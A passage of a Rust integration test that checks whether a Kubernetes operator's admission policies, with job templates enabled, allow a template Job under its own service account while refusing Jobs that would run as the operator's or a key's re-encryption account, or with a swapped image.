        wrong.is_empty(),
        "the policies decided these requests made with the operator's token wrongly:\n{}",
        wrong.join("\n")
    );
}

/// With `policy.allowJobTemplates`, a Job from `spec.reencryption.jobTemplate` runs as its
/// template says (the image and account are the user's opt-in), but never as a key's
/// `-reencrypt` account or the operator's own, and keyward's own Jobs stay as narrow.
#[tokio::test]
async fn with_job_templates_on_the_operators_token_creates_template_jobs_but_not_as_keywards_accounts()
 {
    let cluster = support::cluster("chart-admission-templates").await;
    let namespace = cluster.namespace.clone();
    let install = install(
        &cluster,
        &namespace,
        &["--set", "policy.allowJobTemplates=true"],
    )
    .await;
    let policies = &install.policies;
    let jobs: Api<Job> = Api::namespaced(install.client().await, &namespace);
    let dry_run = PostParams {
        dry_run: true,
        ..PostParams::default()
    };
    let template_job = |account: &str| -> Job {
        serde_json::from_value(json!({
            "apiVersion": "batch/v1", "kind": "Job",
            "metadata": {"name": "apim-external-probe"},
            "spec": {"template": {"spec": {
                "serviceAccountName": account,
                "restartPolicy": "Never",
                "containers": [{"name": "migrate", "image": "docker.io/library/postgres:17", "command": ["psql"]}],
                "volumes": [{"name": "keyward-key-versions", "secret": {"secretName": "apim-versions-v2"}}],
            }}},
        }))
        .expect("a Job")
    };
    let mut another_image = reencryption_job(&namespace, &install.job_image);
    another_image["spec"]["template"]["spec"]["containers"][0]["image"] =
        json!("docker.io/library/busybox:1.36");
    let another_image: Job = serde_json::from_value(another_image).expect("a Job");

    let mut wrong = Vec::new();
    if let Err(error) = jobs.create(&dry_run, &template_job("migrator")).await {
        wrong.push(format!(
            "a template's Job as its own account: refused: {error}"
        ));
    }
    let refused = [
        (
            "a template's Job as a key's -reencrypt account",
            template_job("apim-reencrypt"),
        ),
        (
            "a template's Job as the operator",
            template_job(&install.service_account),
        ),
        ("keyward's Job with another image", another_image),
    ];
    for (what, job) in &refused {
        let result = jobs.create(&dry_run, job).await;
        check(&mut wrong, policies, what, "", result);
    }
    assert!(
        wrong.is_empty(),
        "the policies decided these requests made with the operator's token wrongly:\n{}",
        wrong.join("\n")
    );
}
